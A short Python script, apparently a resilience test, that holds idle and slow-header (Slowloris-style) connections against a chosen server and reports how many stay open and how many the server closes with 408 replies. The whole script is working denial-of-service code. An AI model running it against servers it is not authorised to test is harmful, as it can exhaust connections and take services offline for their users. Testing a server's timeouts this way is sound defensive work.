#!/usr/bin/env python3
"""Holds idle and slow-header connections against a server, as an attacker with one machine would.

Usage: attackers.py HOST PORT IDLE SLOW SECONDS

IDLE connections send nothing; SLOW connections send a request line and then one header byte every
two seconds. A connection the server closes is opened again at once, so the pressure holds for
SECONDS. Prints the most connections held open at once and how many the server closed.
"""

import asyncio
import resource
import sys


async def hold(host, port, slow, until, counters):
    loop = asyncio.get_running_loop()
    while loop.time() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        counters["open"] += 1
        counters["peak"] = max(counters["peak"], counters["open"])
        try:
            if slow:
                writer.write(b"GET /sessions/whoami HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
                await writer.drain()
            while loop.time() < until:
                if slow:
                    writer.write(b"a")
                    await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=2)
                except asyncio.TimeoutError:
                    continue
                if not data or data.startswith(b"HTTP/1.1 408"):
                    counters["closed_by_server"] += 1
                    break
        except OSError:
            counters["closed_by_server"] += 1
        finally:
            counters["open"] -= 1
            writer.close()


async def main():
    host, port, idle, slow, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    counters = {"open": 0, "peak": 0, "closed_by_server": 0}
    until = asyncio.get_running_loop().time() + seconds
    tasks = [hold(host, port, False, until, counters) for _ in range(idle)]
    tasks += [hold(host, port, True, until, counters) for _ in range(slow)]
    await asyncio.gather(*tasks)
    print(f"peak_open={counters['peak']} closed_by_server={counters['closed_by_server']}")


asyncio.run(main())
